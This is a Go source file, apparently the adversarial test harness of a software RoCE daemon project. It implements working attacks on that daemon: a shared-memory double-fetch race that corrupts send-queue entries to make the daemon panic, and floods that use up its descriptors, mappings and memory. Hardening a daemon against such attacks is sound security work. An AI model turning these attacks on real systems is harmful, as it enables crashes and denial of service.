package hostile

import (
	"context"
	"errors"
	"fmt"
	"math/rand/v2"
	"runtime"
	"sync"
	"sync/atomic"
	"time"
	"unsafe"

	"github.com/sroce/sroce/daemon/ctl"
	"github.com/sroce/sroce/ring"
	"github.com/sroce/sroce/roce"
	"github.com/sroce/sroce/verbs"
	"golang.org/x/sys/unix"
)

// Config is what every attack is told: the daemon, the device and the
// bounds of the attack.
type Config struct {
	Socket, Device string
	// Duration bounds the attack: it stops making requests then, and the
	// exhaustion attacks hold what they got until then.
	Duration time.Duration
	// Conns is the most connections an exhaustion attack opens.
	Conns int
	// PerConn is the most objects of each kind one connection asks for.
	PerConn int
	// Writers is the number of goroutines that rewrite shared memory; 0
	// is one less than the CPUs (at least one), which leaves a CPU to the
	// daemon's reads (on two CPUs, one writer crashes a daemon that reads
	// twice within seconds, four take longer than the daemon gets to run).
	Writers int
	// Seed seeds the random choices.
	Seed uint64
}

// mapped is a memfd the daemon passed, mapped here.
type mapped struct{ mem []byte }

func mapFD(fds []int, size uint64) (mapped, error) {
	defer closeAll(fds)
	if len(fds) != 1 {
		return mapped{}, fmt.Errorf("%d descriptors where one memfd was due", len(fds))
	}
	mem, err := unix.Mmap(fds[0], 0, int(size), unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED)
	if err != nil {
		return mapped{}, fmt.Errorf("mapping the daemon's memfd: %w", err)
	}
	return mapped{mem}, nil
}

func (m mapped) unmap() {
	if m.mem != nil {
		unix.Munmap(m.mem)
	}
}

// session is an opened connection with a PD, a CQ and a QP, their memory
// mapped here: what the ring attacks write on.
type session struct {
	c      *Conn
	op     Opened
	page   mapped
	cqMem  mapped
	qpMem  mapped
	cq     *ring.Ring[ring.CQE]
	cqCtl  *ctl.CQCtl
	sq     *ring.Ring[ring.SendWQE]
	rq     *ring.Ring[ring.RecvWQE]
	needWk *uint32
}

// newSession opens a connection and makes a CQ of cqe entries and an RC
// QP of qcap on it.
func newSession(cfg *Config, cqe uint32, qcap ctl.QPCap) (*session, error) {
	c, err := Dial(cfg.Socket)
	if err != nil {
		return nil, err
	}
	s := &session{c: c}
	fail := func(err error) (*session, error) {
		s.close()
		return nil, err
	}
	if s.op, err = c.Open(cfg.Device); err != nil {
		return fail(err)
	}
	if s.page, err = mapFD([]int{s.op.Page}, ctl.CtxPageSize); err != nil {
		s.op.Page = -1
		return fail(err)
	}
	s.op.Page = -1
	s.needWk = (*uint32)(unsafe.Pointer(&s.page.mem[0]))
	pd, err := c.AllocPD()
	if err != nil {
		return fail(err)
	}
	cq, fds, err := c.CreateCQ(cqe, 0)
	if err != nil {
		return fail(err)
	}
	if s.cqMem, err = mapFD(fds, cq.MemSize); err != nil {
		return fail(err)
	}
	s.cqCtl = (*ctl.CQCtl)(unsafe.Pointer(&s.cqMem.mem[0]))
	if s.cq, err = ring.Attach[ring.CQE](s.cqMem.mem[cq.RingOffset:], ring.KindCQ); err != nil {
		return fail(err)
	}
	q, fds, err := c.CreateQP(ctl.CreateQP{PD: pd, SendCQ: cq.Handle, RecvCQ: cq.Handle, QPType: uint8(verbs.QPTypeRC), Cap: qcap})
	if err != nil {
		return fail(err)
	}
	if s.qpMem, err = mapFD(fds, q.MemSize); err != nil {
		return fail(err)
	}
	if s.sq, err = ring.Attach[ring.SendWQE](s.qpMem.mem[q.SQOffset:], ring.KindSend); err != nil {
		return fail(err)
	}
	if q.RQOffset != 0 {
		if s.rq, err = ring.Attach[ring.RecvWQE](s.qpMem.mem[q.RQOffset:], ring.KindRecv); err != nil {
			return fail(err)
		}
	}
	return s, nil
}

// doorbell writes the eventfd (whether or not the daemon asked).
func (s *session) doorbell() {
	v := uint64(1)
	unix.Write(s.op.Doorbell, (*[8]byte)(unsafe.Pointer(&v))[:])
}

func (s *session) close() {
	s.c.Close()
	closeAll([]int{s.op.Async, s.op.Doorbell})
	if s.op.Page > 0 {
		unix.Close(s.op.Page)
	}
	s.page.unmap()
	s.cqMem.unmap()
	s.qpMem.unmap()
}

// alive asks the daemon something on the session's connection.
func (s *session) alive() error {
	in := ctl.Port{PortNum: 1}
	_, fds, err := s.c.Call(ctl.OpQueryPort, ctl.Bytes(&in), nil)
	closeAll(fds)
	return err
}

// DoubleRead races the daemon's reads of send WQEs: it publishes inline
// SENDs of 8 bytes on a QP's send ring and rings the doorbell (yielding
// the CPU while the ring is full), while cfg.Writers goroutines rewrite
// the word that holds the opcode, the SGE count and the inline length of
// the slots the daemon is reading (at its consumer index) to an inline
// length of 65535 (and now and then a random opcode, 255 SGEs and a random
// length) and back, in a tight loop. A daemon that reads the inline
// length twice, once to check it against the slot and once to copy,
// slices past the slot and panics. A daemon that reads it once sees
// either length: the small one is posted, the large one is a corrupt ring
// and the connection ends; the attack then connects again, until
// cfg.Duration.
func DoubleRead(ctx context.Context, cfg *Config, t *Tally) error {
	ctx, cancel := context.WithTimeout(ctx, cfg.Duration)
	defer cancel()
	for ctx.Err() == nil {
		err := doubleReadOnce(ctx, cfg, t)
		if errors.Is(err, ErrGone) {
			return err
		}
		if err != nil && ctx.Err() == nil {
			t.Err("the race", err)
		}
	}
	return nil
}

func doubleReadOnce(ctx context.Context, cfg *Config, t *Tally) error {
	s, err := newSession(cfg, 4096, ctl.QPCap{MaxSendWR: 1024, MaxRecvWR: 1, MaxSendSGE: 1, MaxRecvSGE: 1, MaxInlineData: 64})
	if err != nil {
		return err
	}
	t.Got("sessions", 1)
	const small = 8
	good := uint32(verbs.WROpSend) | small<<16
	var stop atomic.Bool
	var wg sync.WaitGroup
	writers := cfg.Writers
	if writers <= 0 {
		writers = max(runtime.NumCPU()-1, 1)
	}
	for w := 0; w < writers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			rng := rand.New(rand.NewPCG(cfg.Seed, uint64(w)))
			hdr := s.sq.Header()
			for k := 0; !stop.Load(); k++ {
				i := hdr.Cons.Load() + uint32(w&1)
				word := (*uint32)(unsafe.Add(unsafe.Pointer(s.sq.At(i)), 8)) // Opcode, NumSGE, InlineLen
				bad := uint32(verbs.WROpSend) | 0xffff<<16
				if k&63 == 0 {
					bad = uint32(rng.IntN(256)) | 0xff<<8 | uint32(rng.IntN(1<<16))<<16
				}
				for j := 0; j < 16; j++ {
					atomic.StoreUint32(word, bad)
					atomic.StoreUint32(word, good)
				}
			}
		}()
	}
	defer func() {
		stop.Store(true)
		wg.Wait()
		s.close()
	}()
	var posted int
	defer func() { t.Got("inline SENDs published", posted) }()
	lastCons, lastMove := s.sq.Header().Cons.Load(), time.Now()
	for ctx.Err() == nil {
		if s.sq.Full() {
			time.Sleep(20 * time.Microsecond) // the daemon needs the CPU more than this loop
		}
		for e := s.sq.Next(); e != nil; e = s.sq.Next() {
			*e = ring.SendWQE{WRID: uint64(posted), Opcode: uint8(verbs.WROpSend), InlineLen: small, Length: small,
				Flags: uint32(verbs.Inline | verbs.Signaled)}
			s.sq.Publish()
			posted++
		}
		s.doorbell()
		s.cq.Header().Cons.Store(s.cq.Header().Prod.Load()) // take every completion
		if c := s.sq.Header().Cons.Load(); c != lastCons {
			lastCons, lastMove = c, time.Now()
		} else if time.Since(lastMove) > 200*time.Millisecond {
			if err := s.alive(); err != nil {
				return err
			}
			lastMove = time.Now()
		}
	}
	return nil
}

// step is one kind of object an exhaustion attack asks for again and
// again; do makes one and closes every descriptor the daemon passed.
type step struct {
	what string
	do   func(most int) (int, error)
}

// one makes a step's do of a function that makes one object.
func one(f func() error) func(int) (int, error) {
	return func(int) (int, error) {
		if err := f(); err != nil {
			return 0, err
		}
		return 1, nil
	}
}

// exhaust opens up to cfg.Conns connections one after the other; on each,
// setup returns the steps, which are repeated round robin until the
// daemon refuses one (or cfg.PerConn of each were made). The connections
// stay open, and what they made stays made, until cfg.Duration ends;
// meanwhile the attack keeps connecting anew, and all along it knocks. It returns ErrGone when the
// daemon's socket stops answering.
func exhaust(ctx context.Context, cfg *Config, t *Tally, setup func(c *Conn) ([]step, error)) error {
	ctx, cancel := context.WithTimeout(ctx, cfg.Duration)
	defer cancel()
	var conns []*Conn
	defer func() {
		for _, c := range conns {
			c.Close()
		}
	}()
	// Knock all along: a new connection every 20 ms, closed at once, so
	// that one comes while the daemon is at its limit.
	gone := make(chan error, 1)
	go func() {
		for ctx.Err() == nil {
			c, err := Dial(cfg.Socket)
			if err != nil {
				t.Err("knocking", err)
				if errors.Is(err, ErrGone) {
					gone <- err
					cancel()
					return
				}
			} else {
				t.Got("knocks", 1)
				c.Close()
			}
			time.Sleep(20 * time.Millisecond)
		}
	}()
	failedDials := 0
	for i := 0; i < cfg.Conns && ctx.Err() == nil && failedDials < 3; i++ {
		c, err := Dial(cfg.Socket)
		if err != nil {
			t.Err("connect", err)
			if errors.Is(err, ErrGone) {
				return err
			}
			failedDials++
			continue
		}
		t.Got("connections", 1)
		conns = append(conns, c)
		steps, err := setup(c)
		if err != nil {
			t.Err("setup", err)
			continue
		}
		fill(ctx, cfg, t, steps)
	}
	// Hold on, and keep knocking: a new connection fills again whatever
	// the daemon freed meanwhile.
	tick := time.NewTicker(250 * time.Millisecond)
	defer tick.Stop()
	for {
		select {
		case <-ctx.Done():
			select {
			case err := <-gone:
				return err
			default:
				return nil
			}
		case <-tick.C:
		}
		c, err := Dial(cfg.Socket)
		if err != nil {
			t.Err("connect while holding", err)
			if errors.Is(err, ErrGone) {
				return err
			}
			continue
		}
		t.Got("connections while holding", 1)
		conns = append(conns, c)
		if steps, err := setup(c); err != nil {
			t.Err("setup while holding", err)
		} else {
			fill(ctx, cfg, t, steps)
		}
	}
}

// fill repeats the steps round robin until the daemon refuses one (the
// connection, or the daemon, is then at a limit: it stays there), or
// cfg.PerConn of each were made, or the connection breaks.
func fill(ctx context.Context, cfg *Config, t *Tally, steps []step) {
	made := make([]int, len(steps))
	for left := len(steps); left > 0 && ctx.Err() == nil; {
		for k, st := range steps {
			if made[k] >= cfg.PerConn {
				continue
			}
			n, err := st.do(cfg.PerConn - made[k])
			t.Got(st.what, n)
			if made[k] += n; made[k] >= cfg.PerConn {
				left--
			}
			if err != nil {
				t.Err(st.what, err)
				return
			}
		}
	}
}

// openPD opens the device on c and allocates a PD, closing the client's
// copies of what OPEN passed.
func openPD(c *Conn, dev string) (uint32, error) {
	o, err := c.Open(dev)
	if err != nil {
		return 0, err
	}
	o.Close()
	return c.AllocPD()
}

// Descriptors exhausts the daemon's descriptors: on each connection it
// creates completion channels, CQs, QPs and SRQs (each of which holds a
// descriptor in the daemon), 32 requests at a time, until one is
// refused, closing its own copy of every descriptor passed, and holds the
// connections open.
func Descriptors(ctx context.Context, cfg *Config, t *Tally) error {
	return exhaust(ctx, cfg, t, func(c *Conn) ([]step, error) {
		pd, err := openPD(c, cfg.Device)
		if err != nil {
			return nil, err
		}
		cq, fds, err := c.CreateCQ(1, 0)
		closeAll(fds)
		if err != nil {
			return nil, err
		}
		qp := ctl.CreateQP{PD: pd, SendCQ: cq.Handle, RecvCQ: cq.Handle, QPType: uint8(verbs.QPTypeRC),
			Cap: ctl.QPCap{MaxSendWR: 1, MaxRecvWR: 1, MaxSendSGE: 1, MaxRecvSGE: 1}}
		cqIn := ctl.CreateCQ{CQE: 1}
		srq := ctl.SRQ{PDOrHandle: pd, MaxWR: 1, MaxSGE: 1}
		return []step{
			{"completion channels", batch(c, ctl.OpCreateCompChannel, func() []byte { return nil })},
			{"CQs", batch(c, ctl.OpCreateCQ, func() []byte { return ctl.Bytes(&cqIn) })},
			{"QPs", batch(c, ctl.OpCreateQP, func() []byte { return ctl.Bytes(&qp) })},
			{"SRQs", batch(c, ctl.OpCreateSRQ, func() []byte { return ctl.Bytes(&srq) })},
		}, nil
	})
}

// Mappings exhausts the daemon's mappings: on each connection it
// registers one-page MRs of a sealed memfd (each one a mapping in the
// daemon), 32 requests at a time, until refused, and holds the
// connections open.
func Mappings(ctx context.Context, cfg *Config, t *Tally) error {
	var fds []int
	defer func() { closeAll(fds) }()
	return exhaust(ctx, cfg, t, func(c *Conn) ([]step, error) {
		pd, err := openPD(c, cfg.Device)
		if err != nil {
			return nil, err
		}
		fd, err := SealedMemfd(4096)
		if err != nil {
			return nil, err
		}
		fds = append(fds, fd)
		addr := uint64(0x10000000)
		return []step{{"one-page MRs", func(most int) (int, error) {
			return c.regMRs(pd, fd, &addr, min(most, 32))
		}}}, nil
	})
}

// regMRs sends n REG_MRs of the first page of memfd at once, at
// addresses from *addr on, then reads their replies (many).
func (c *Conn) regMRs(pd uint32, memfd int, addr *uint64, n int) (int, error) {
	return c.many(ctl.OpRegMR, n, []int{memfd}, func() []byte {
		*addr += 4096
		in := ctl.RegMR{PD: pd, Access: 1, Addr: *addr, Length: 4096, IOVA: *addr}
		return ctl.Bytes(&in)
	})
}

// many sends n requests of op at once, each with the body body returns
// and the descriptors fds, then reads their replies, closing the
// descriptors they pass. It returns how many succeeded and the first
// refusal, or the error that broke the connection.
func (c *Conn) many(op ctl.Op, n int, fds []int, body func() []byte) (int, error) {
	first := c.seq + 1
	sent := 0
	var err error
	for ; sent < n; sent++ {
		c.seq++
		if err = c.Send(ctl.Append(nil, ctl.Hdr{Op: op, Seq: c.seq, NFDs: uint32(len(fds))}, body()), fds); err != nil {
			break
		}
	}
	made := 0
	var refused error
	for k := 0; k < sent; k++ {
		h, _, rfds, rerr := c.Recv()
		closeAll(rfds)
		if rerr != nil {
			return made, rerr
		}
		if h.Seq != first+uint32(k) {
			return made, fmt.Errorf("reply %d to %s %d", h.Seq, op, first+uint32(k))
		}
		if h.Err != 0 {
			if refused == nil {
				refused = &Refused{Op: op, Errno: unix.Errno(h.Err)}
			}
			continue
		}
		made++
	}
	if err != nil {
		return made, err
	}
	return made, refused
}

// batch is a step's do that asks for up to 32 objects of op at once.
func batch(c *Conn, op ctl.Op, body func() []byte) func(int) (int, error) {
	return func(most int) (int, error) { return c.many(op, min(most, 32), nil, body) }
}

// Memory exhausts the daemon's memory: on each connection it creates RC
// QPs of the largest queues the device admits (16,384 WRs, 32 SGEs and
// 400 bytes of inline data each way) until refused, and holds them.
func Memory(ctx context.Context, cfg *Config, t *Tally) error {
	return exhaust(ctx, cfg, t, func(c *Conn) ([]step, error) {
		pd, err := openPD(c, cfg.Device)
		if err != nil {
			return nil, err
		}
		cq, fds, err := c.CreateCQ(1, 0)
		closeAll(fds)
		if err != nil {
			return nil, err
		}
		qp := ctl.CreateQP{PD: pd, SendCQ: cq.Handle, RecvCQ: cq.Handle, QPType: uint8(verbs.QPTypeRC),
			Cap: ctl.QPCap{MaxSendWR: roce.MaxQPWR, MaxRecvWR: roce.MaxQPWR, MaxSendSGE: roce.MaxSGE, MaxRecvSGE: roce.MaxSGE,
				MaxInlineData: roce.MaxInlineData}}
		return []step{{"largest QPs", batch(c, ctl.OpCreateQP, func() []byte { return ctl.Bytes(&qp) })}}, nil
	})
}
